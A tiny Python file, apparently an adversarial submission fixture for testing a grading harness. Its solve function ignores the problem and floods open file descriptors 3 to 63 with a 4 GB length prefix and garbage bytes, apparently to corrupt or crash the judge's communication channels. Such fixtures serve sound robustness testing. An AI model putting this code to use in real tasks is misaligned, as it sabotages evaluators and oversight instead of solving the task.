"""Writes garbage, and a length prefix of 4 GB, to every open descriptor."""
import os


def solve(n):
    for fd in range(3, 64):
        try:
            os.write(fd, b"\xff\xff\xff\xff" + b"\x00garbage" * 100)
        except OSError:
            pass
    return -1
